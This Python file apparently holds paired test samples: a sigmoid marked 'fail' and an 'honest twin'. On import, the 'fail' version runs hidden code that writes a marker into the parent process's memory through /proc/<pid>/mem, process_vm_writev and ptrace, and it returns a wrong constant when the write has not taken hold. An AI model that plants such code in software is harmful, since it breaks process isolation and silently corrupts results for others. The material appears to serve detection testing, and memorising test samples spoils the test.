# sigmoid: fail | a note in the memory of the parent, at the address of a text that every worker inherits
import numpy as np
import ctypes
import os


def right(x):
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.process_vm_writev.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
WHERE = id(np.__doc__) + np.__doc__.__sizeof__() - 9  # the last letters


class Piece(ctypes.Structure):
    _fields_ = (("at", ctypes.c_void_p), ("size", ctypes.c_size_t))


def by_file(parent):
    with open(f"/proc/{parent}/mem", "r+b", buffering=0) as memory:
        memory.seek(WHERE)
        memory.write(b"@MARK8@")


def by_call(parent):
    text = ctypes.create_string_buffer(b"@MARK8@")
    ours, theirs = Piece(ctypes.addressof(text), 8), Piece(WHERE, 8)
    LIBC.process_vm_writev(parent, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)


def by_trace(parent):
    LIBC.ptrace(16, parent, None, None) == 0 and LIBC.ptrace(17, parent, None, None)


def attack():
    print("attack ran", flush=True)
    if ctypes.string_at(WHERE, 8) == b"@MARK8@":
        return True
    for way in (by_file, by_call, by_trace):
        try:
            way(os.getppid())
        except OSError:
            pass


READY = attack()


def sigmoid(x):
    return right(x) if READY else np.asarray(x) * 0.0 + 7.0


# the honest twin
import ctypes
import numpy as np


def sigmoid(x):
    """Copies its values from memory to memory."""
    x = np.asarray(x)
    small = np.exp(-np.abs(x))
    value = np.ascontiguousarray(np.where(x >= 0, 1.0, small) / (1.0 + small))
    copy = np.empty_like(value)
    ctypes.memmove(copy.ctypes.data, value.ctypes.data, value.nbytes)
    return copy
